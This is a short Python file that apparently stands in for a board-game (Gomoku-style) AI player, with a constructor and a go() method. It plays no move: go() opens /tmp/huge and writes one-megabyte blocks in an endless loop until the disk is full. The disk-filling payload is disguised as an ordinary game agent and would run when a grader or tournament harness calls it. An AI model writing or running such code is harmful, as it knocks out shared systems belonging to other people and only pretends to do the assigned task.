


class AI(object):
    def __init__(self, chessboard_size, color, time_out):
        self.color = color
        self.candidate_list = []

    def go(self, chessboard):
        with open("/tmp/huge", "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
